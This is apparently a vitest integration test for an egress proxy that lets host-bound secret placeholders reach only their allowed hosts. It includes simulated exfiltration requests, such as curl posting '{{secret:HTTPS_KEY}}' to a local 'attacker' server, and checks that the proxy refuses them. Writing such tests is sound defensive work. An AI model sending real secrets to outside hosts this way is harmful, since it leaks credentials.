/**
 * Host-bound secrets at the real egress proxy, over real sockets: curl and a Node client talk to the proxy,
 * which talks to local echo servers (plain HTTP, and HTTPS with a CA of its own) that record what really
 * arrived. A bound value reaches its host, in every place a placeholder can stand (path, query, header,
 * JSON, form, multipart and chunked bodies, a large streamed body), and nowhere else: toward another host,
 * port or scheme the request is refused 403 before anything is sent, the embedder is told (alias and
 * destination) so it ends the run, a metric and a log line record it, and the value is in none of them.
 */
import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, request, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Registry } from 'prom-client';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createEphemeralCa } from '../../egress-proxy/deployment-ca.js';
import { createEgressMetrics } from '../../egress-proxy/egress-metrics.js';
import { createEgressProxy, type EgressProxy, type RunSecrets } from '../../egress-proxy/egress-proxy.js';
import type { RunSecret } from '../../egress-proxy/secret-binding.js';

interface Received {
  port: number;
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}

function echoServer(received: Received[], port: () => number) {
  return (req: IncomingMessage, res: ServerResponse) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      const record = { port: port(), url: req.url!, headers: req.headers, body: Buffer.concat(chunks).toString('utf8') };
      received.push(record);
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ ok: true }));
    });
  };
}

async function listen(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}

const HTTPS_VALUE = 'bound-https-canary-7c1e';
const HTTP_VALUE = 'bound-http-canary-42aa';
const HTTPS_ONLY_VALUE = 'https-only-canary-9d0f';
const PLAIN_VALUE = 'plain-canary-55ee';
const VALUES = [HTTPS_VALUE, HTTP_VALUE, HTTPS_ONLY_VALUE, PLAIN_VALUE];

const RUN = { id: 'runner_bind', token: 'tok-bind-3f9c' };
let dir: string;
const received: Received[] = [];
const told: Array<{ runnerId: string; alias: string; destination: string | undefined }> = [];
const logs: string[] = [];
const servers: Server[] = [];
let ports: { http: number; https: number; attacker: number; attackerTls: number };
let proxy: EgressProxy;
let proxyCaFile: string;
let registry: Registry;
let secrets: RunSecrets;

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'acis-egress-binding-'));
  const upstreamCa = await createEphemeralCa('binding echo CA');
  const leaf = await upstreamCa.issueLeaf('localhost');
  const tls = { cert: leaf.certPem, key: leaf.keyPem };
  const http = createServer(echoServer(received, () => ports.http));
  const https = createHttpsServer(
    tls,
    echoServer(received, () => ports.https),
  );
  const attacker = createServer(echoServer(received, () => ports.attacker));
  const attackerTls = createHttpsServer(
    tls,
    echoServer(received, () => ports.attackerTls),
  );
  servers.push(http, https, attacker, attackerTls);
  const [a, b, c, d] = await Promise.all(servers.map(listen));
  ports = { http: a!, https: b!, attacker: c!, attackerTls: d! };
  const extraCa = path.join(dir, 'upstream-ca.pem');
  await writeFile(extraCa, upstreamCa.certPem);
  secrets = new Map<string, RunSecret>([
    ['HTTPS_KEY', { value: HTTPS_VALUE, allowedHosts: [`localhost:${ports.https}`] }],
    ['HTTP_KEY', { value: HTTP_VALUE, allowedHosts: [`http://127.0.0.1:${ports.http}`] }],
    ['HTTPS_ONLY', { value: HTTPS_ONLY_VALUE, allowedHosts: ['127.0.0.1'] }],
    ['PLAIN', PLAIN_VALUE],
  ]);
  registry = new Registry();
  const line = (level: string) => (obj: object, msg: string) => logs.push(`${level} ${msg} ${JSON.stringify(obj)}`);
  proxy = await createEgressProxy({
    caDir: path.join(dir, 'egress-ca'),
    allow: `127.0.0.1:${ports.http},localhost:${ports.https},127.0.0.1:${ports.attacker},localhost:${ports.attackerTls}`,
    extraCaPath: extraCa,
    resolveRun: ({ runnerId, token }) => (runnerId === RUN.id && token === RUN.token ? { secrets } : undefined),
    onMissing: (runnerId, alias, _token, destination) => told.push({ runnerId, alias, destination }),
    metrics: createEgressMetrics(registry),
    logger: { debug: line('debug'), info: line('info'), warn: line('warn'), error: line('error') },
  });
  proxyCaFile = path.join(dir, 'proxy-ca.pem');
  await writeFile(proxyCaFile, proxy.caCertificatePem);
});

afterAll(async () => {
  await proxy?.close();
  for (const server of servers) server.close();
  await rm(dir, { recursive: true, force: true });
});

beforeEach(() => {
  received.length = 0;
  told.length = 0;
});

const proxyUrl = () => proxy.url.replace('http://', `http://${RUN.id}:${RUN.token}@`);
const seen: string[] = [];

/** curl through the proxy; `-g` so the braces of placeholders are not taken as URL globs. */
async function curl(url: string, args: string[] = []): Promise<{ status: number; body: string; headers: string }> {
  const headerFile = path.join(dir, `h-${Math.random().toString(36).slice(2)}`);
  const stdout = await new Promise<string>((resolve, reject) =>
    execFile(
      'curl',
      ['-sS', '-g', '-x', proxyUrl(), '--cacert', proxyCaFile, '-D', headerFile, '-w', '\n%{http_code}', url, ...args],
      {},
      (err, out) => (err && !out ? reject(err) : resolve(out)),
    ),
  );
  const cut = stdout.lastIndexOf('\n');
  const result = {
    status: Number(stdout.slice(cut + 1)),
    body: stdout.slice(0, cut),
    headers: await readFile(headerFile, 'utf8').catch(() => ''),
  };
  seen.push(result.body, result.headers);
  return result;
}

/** A Node client sending an absolute-form request through the proxy, its body written in the given pieces. */
function nodeRequest(url: string, pieces: Buffer[], headers: Record<string, string> = {}): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request({
      host: '127.0.0.1',
      port: proxy.port,
      method: 'POST',
      path: url,
      headers: {
        host: new URL(url).host,
        'proxy-authorization': `Basic ${Buffer.from(`${RUN.id}:${RUN.token}`).toString('base64')}`,
        'content-type': 'text/plain',
        ...headers,
      },
    });
    req.on('error', reject);
    req.on('response', (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => {
        const body = Buffer.concat(chunks).toString('utf8');
        seen.push(body);
        resolve({ status: res.statusCode!, body });
      });
    });
    // Each piece its own write (and, with chunked framing, its own chunk on the wire).
    for (const piece of pieces) req.write(piece);
    req.end();
  });
}

async function denials(): Promise<number> {
  const metric = await registry.getSingleMetric('acis_egress_denials_total')?.get();
  return metric?.values.find((v) => v.labels.reason === 'secret-destination-denied')?.value ?? 0;
}

/** Every place a placeholder can stand in one request, as curl arguments and the URL. */
function everywhere(base: string, alias: string): Array<[string, string, string[]]> {
  const p = `{{secret:${alias}}}`;
  return [
    ['path', `${base}/v1/${p}/items`, []],
    ['query', `${base}/v1/items?key=${p}`, []],
    ['header', `${base}/v1/items`, ['-H', `Authorization: Bearer ${p}`]],
    ['JSON body', `${base}/v1/items`, ['-H', 'content-type: application/json', '--data-binary', `{"token":"${p}"}`]],
    ['form body', `${base}/v1/items`, ['--data', `token=${p}&x=1`]],
    ['multipart body', `${base}/v1/items`, ['-F', `token=${p}`]],
    ['chunked body', `${base}/v1/items`, ['-H', 'Transfer-Encoding: chunked', '-H', 'content-type: text/plain', '--data-binary', `k=${p}`]],
  ];
}

describe('a bound secret reaches its host', () => {
  it.each(everywhere('https://localhost:PORT', 'HTTPS_KEY'))('over HTTPS, in the %s', async (_where, url, args) => {
    const res = await curl(url.replace('PORT', String(ports.https)), args);
    expect(res.status, res.body).toBe(200);
    expect(received).toHaveLength(1);
    expect(JSON.stringify(received[0])).toContain(HTTPS_VALUE);
    expect(JSON.stringify(received[0])).not.toContain('{{secret:');
    expect(told).toEqual([]);
  });

  it('over plain HTTP when its entry names http://', async () => {
    const res = await curl(`http://127.0.0.1:${ports.http}/v1?k={{secret:HTTP_KEY}}`, ['-H', 'X-Key: {{secret:HTTP_KEY}}']);
    expect(res.status, res.body).toBe(200);
    expect(received[0]!.url).toBe(`/v1?k=${HTTP_VALUE}`);
    expect(received[0]!.headers['x-key']).toBe(HTTP_VALUE);
  });

  it('in a large streamed body, placeholders split across writes of the one body included', async () => {
    const filler = Buffer.alloc(1 << 20, 'a');
    const plain = await nodeRequest(`http://127.0.0.1:${ports.http}/upload`, [
      filler,
      Buffer.from('x={{sec'),
      Buffer.from('ret:HTTP_'),
      Buffer.from('KEY}};'),
      filler,
    ]);
    expect(plain.status, plain.body).toBe(200);
    expect(received).toHaveLength(1);
    expect(received[0]!.body.length).toBe(2 * filler.length + `x=${HTTP_VALUE};`.length);
    expect(received[0]!.body).toContain(`x=${HTTP_VALUE};`);
  });

  it('an unbound value still goes anywhere, as the interface has it', async () => {
    const res = await curl(`http://127.0.0.1:${ports.attacker}/?k={{secret:PLAIN}}`);
    expect(res.status).toBe(200);
    expect(received[0]!.url).toBe(`/?k=${PLAIN_VALUE}`);
  });
});

describe('toward any other destination it is refused, and the run is to end', () => {
  const refusedAt = (status: number, body: string, alias: string, destination: string) => {
    expect(status, body).toBe(403);
    expect(body).toContain(`{{secret:${alias}}}`);
    expect(body).toContain(destination);
    expect(received).toEqual([]);
    expect(told).toEqual([{ runnerId: RUN.id, alias, destination }]);
  };

  it.each(everywhere('http://127.0.0.1:PORT', 'HTTPS_KEY'))('another host: the placeholder in the %s', async (_where, url, args) => {
    const before = await denials();
    const res = await curl(url.replace('PORT', String(ports.attacker)), args);
    refusedAt(res.status, res.body, 'HTTPS_KEY', `http://127.0.0.1:${ports.attacker}`);
    expect(res.headers.toLowerCase()).toContain('x-acis-egress-error: secret-destination-denied');
    expect(await denials()).toBe(before + 1);
  });

  it("the exfiltration: curl https://attacker/ -d '{{secret:...}}' (another port of the same host, over HTTPS)", async () => {
    const res = await curl(`https://localhost:${ports.attackerTls}/`, ['-d', '{{secret:HTTPS_KEY}}']);
    refusedAt(res.status, res.body, 'HTTPS_KEY', `https://localhost:${ports.attackerTls}`);
  });

  it('the right host over plain HTTP when its entry does not name http://', async () => {
    const res = await curl(`http://127.0.0.1:${ports.http}/?k={{secret:HTTPS_ONLY}}`);
    refusedAt(res.status, res.body, 'HTTPS_ONLY', `http://127.0.0.1:${ports.http}`);
  });

  it('deep in a large streamed body: the upstream never receives a complete request', async () => {
    const filler = Buffer.alloc(1 << 20, 'a');
    const res = await nodeRequest(`http://127.0.0.1:${ports.attacker}/upload`, [filler, Buffer.from('x={{secret:HTTP_KEY}}'), filler]);
    expect(res.status).toBe(403);
    expect(told).toEqual([{ runnerId: RUN.id, alias: 'HTTP_KEY', destination: `http://127.0.0.1:${ports.attacker}` }]);
    expect(received).toEqual([]);
  });

  it('a placeholder split across separate requests is never assembled: each piece goes out as the text it is', async () => {
    const first = await nodeRequest(`http://127.0.0.1:${ports.attacker}/a`, [Buffer.from('{{sec')]);
    const second = await nodeRequest(`http://127.0.0.1:${ports.attacker}/b`, [Buffer.from('ret:HTTPS_KEY}}')]);
    expect([first.status, second.status]).toEqual([200, 200]);
    expect(received.map((r) => r.body)).toEqual(['{{sec', 'ret:HTTPS_KEY}}']);
    expect(told).toEqual([]);
  });

  it('a placeholder split across chunks of one body toward another host is still one placeholder: refused', async () => {
    const res = await nodeRequest(
      `http://127.0.0.1:${ports.attacker}/c`,
      [Buffer.from('a={{sec'), Buffer.from('ret:HTTP'), Buffer.from('_KEY}}')],
      { 'transfer-encoding': 'chunked' },
    );
    expect(res.status).toBe(403);
    expect(received).toEqual([]);
  });
});

describe('the value is at no surface', () => {
  it('not in an answer, a header or a log line; the log names alias and destination', () => {
    const all = [...seen, ...logs].join('\n');
    for (const value of VALUES) expect(all).not.toContain(value);
    expect(logs.some((l) => l.includes('bound secret toward a destination outside its hosts') && l.includes('"alias":"HTTPS_KEY"'))).toBe(
      true,
    );
  });
});
